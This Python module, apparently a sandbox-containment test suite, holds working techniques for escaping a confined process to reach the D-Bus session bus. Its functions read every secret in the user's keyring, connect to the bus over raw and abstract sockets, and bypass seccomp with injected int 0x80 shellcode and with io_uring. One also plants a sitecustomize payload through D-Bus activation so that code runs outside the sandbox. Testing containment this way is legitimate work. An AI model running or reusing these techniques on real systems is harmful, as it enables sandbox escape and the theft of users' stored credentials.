"""The session bus and the keyring behind it, by five ways to a socket."""

import ctypes
import errno
import mmap
import os
import socket
import struct
import time
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
]

AUTH = b"\0AUTH EXTERNAL " + str(os.geteuid()).encode().hex().encode() + b"\r\n"
MAP_32BIT = 0x40


def _bus_path(t):
    return t["bus"].removeprefix("unix:path=")


def _connection(t):
    import secretstorage

    os.environ["DBUS_SESSION_BUS_ADDRESS"] = t["bus"]
    return secretstorage.dbus_init()


def keyring_item(t):
    """R04: the vault's own key, then the vault."""
    import secretstorage

    bus = _connection(t)
    found = []
    for item in secretstorage.get_default_collection(bus).get_all_items():
        if "jupyter-valet" in item.get_label() or "jupyter-valet" in str(item.get_attributes()):
            found.append(item.get_secret().decode())
    if not found:
        return "nothing of the vault's is in the keyring"
    return "CONTROL the vault's key ring is in hand: " + str(len(found[0])) + " characters"


def keyring_all(t):
    """R05: every item of the user."""
    import secretstorage

    items = secretstorage.get_default_collection(_connection(t)).get_all_items()
    return " ".join(item.get_secret().decode(errors="replace") for item in items)


def raw_socket(t):
    """R08."""
    with socket.socket(socket.AF_UNIX) as bus:
        bus.connect(_bus_path(t))
        bus.settimeout(5)
        bus.sendall(AUTH)
        return "CONTROL the bus says " + bus.recv(100).decode(errors="replace")


def abstract_socket(t):
    """R09."""
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect("\0" + t["abstract"])
        peer.settimeout(5)
        return "CONTROL " + peer.recv(100).decode()


def _address(t):
    path = _bus_path(t).encode()
    return struct.pack("H", socket.AF_UNIX) + path + b"\0"


# push rbx; mov eax, 102 (socketcall); mov ebx, edi; mov ecx, esi; int 0x80; pop rbx; ret
_INT80 = bytes.fromhex("53b86600000089fb89f1cd805bc3")


def ia32_socketcall(t):
    """R06: i386 system calls of a 64-bit process, past a filter that looks at numbers only.

    In a child, because a filter that knows the trick kills.
    """
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            said = _ia32(t)
        except OSError as error:
            said = f"failed: {error}"
        os.write(write, said.encode())
        os._exit(0)
    os.close(write)
    _, status = os.waitpid(child, 0)
    said = os.read(read, 1000).decode()
    if os.WIFSIGNALED(status):
        raise PermissionError(f"killed by signal {os.WTERMSIG(status)}")
    if said.startswith("failed"):
        raise PermissionError(said)
    return said


def _ia32(t):
    size = 4096
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
    code = libc.mmap(None, size, 7, flags, -1, 0)
    data = libc.mmap(None, size, 3, flags, -1, 0)
    if None in (code, data) or code == 2**64 - 1:
        raise OSError(ctypes.get_errno(), "mmap")
    ctypes.memmove(code, _INT80, len(_INT80))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint)(code)

    def socketcall(number, *arguments):
        ctypes.memmove(data, struct.pack(f"{len(arguments)}I", *arguments), 4 * len(arguments))
        result = call(number, data)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    descriptor = socketcall(1, socket.AF_UNIX, socket.SOCK_STREAM, 0)
    address = _address(t)
    ctypes.memmove(data + 1024, address, len(address))
    socketcall(3, descriptor, data + 1024, len(address))
    os.write(descriptor, AUTH)
    return "CONTROL the bus says " + os.read(descriptor, 100).decode(errors="replace")


class _Ring:
    """As little of io_uring as two requests need (man io_uring_setup, io_uring_enter)."""

    def __init__(self):
        self.parameters = ctypes.create_string_buffer(120)
        self.descriptor = self._call(425, 4, ctypes.byref(self.parameters))
        entries, cq_entries = struct.unpack_from("II", self.parameters.raw, 0)
        self.sq = struct.unpack_from("10I", self.parameters.raw, 40)
        self.cq = struct.unpack_from("10I", self.parameters.raw, 80)
        shared = mmap.MAP_SHARED
        self.rings = mmap.mmap(
            self.descriptor, max(self.sq[6] + entries * 4, self.cq[5] + cq_entries * 16), shared
        )
        self.entries = mmap.mmap(self.descriptor, entries * 64, shared, offset=0x10000000)

    @staticmethod
    def _call(number, *arguments):
        result = libc.syscall(number, *arguments)
        if result < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return result

    def submit(self, opcode, fd, offset, address, length):
        tail = struct.unpack_from("I", self.rings, self.sq[1])[0]
        mask = struct.unpack_from("I", self.rings, self.sq[2])[0]
        index = tail & mask
        entry = struct.pack("BBHiQQI", opcode, 0, 0, fd, offset, address, length).ljust(64, b"\0")
        self.entries[index * 64 : index * 64 + 64] = entry
        struct.pack_into("I", self.rings, self.sq[6] + 4 * index, index)
        struct.pack_into("I", self.rings, self.sq[1], tail + 1)
        self._call(426, self.descriptor, 1, 1, 1, None, 0)
        head = struct.unpack_from("I", self.rings, self.cq[0])[0]
        at = self.cq[5] + 16 * (head & struct.unpack_from("I", self.rings, self.cq[2])[0])
        result = struct.unpack_from("i", self.rings, at + 8)[0]
        struct.pack_into("I", self.rings, self.cq[0], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def io_uring(t):
    """R07: socket and connect without the system calls of that name."""
    ring = _Ring()
    descriptor = ring.submit(45, socket.AF_UNIX, socket.SOCK_STREAM, 0, 0)
    address = _address(t)
    kept = ctypes.create_string_buffer(address, len(address))
    ring.submit(16, descriptor, len(address), ctypes.addressof(kept), 0)
    os.write(descriptor, AUTH)
    return "CONTROL the bus says " + os.read(descriptor, 100).decode(errors="replace")


def activation(t):
    """R10: the bus starts a harmless service, in an environment of the attacker's choice."""
    from jeepney import DBusAddress, new_method_call
    from jeepney.io.blocking import open_dbus_connection

    folder = Path(t["root"], "on-the-path")
    folder.mkdir(exist_ok=True)
    (folder / "sitecustomize.py").write_text(t["payload"])
    with open_dbus_connection(t["bus"]) as bus:
        driver = DBusAddress(
            "/org/freedesktop/DBus", "org.freedesktop.DBus", "org.freedesktop.DBus"
        )
        environment = {"PYTHONPATH": str(folder)}
        update = new_method_call(driver, "UpdateActivationEnvironment", "a{ss}", (environment,))
        bus.send_and_get_reply(update, timeout=5)
        start = new_method_call(driver, "StartServiceByName", "su", (t["service"], 0))
        bus.send(start)
        return _mark(t)


def _mark(t, seconds=10):
    """Return what the payload left; it ran wherever the bus runs."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if Path(t["mark"]).exists():
            return "CONTROL " + Path(t["mark"]).read_text()
        time.sleep(0.1)
    raise PermissionError(errno.EPERM, "the service did not run it")
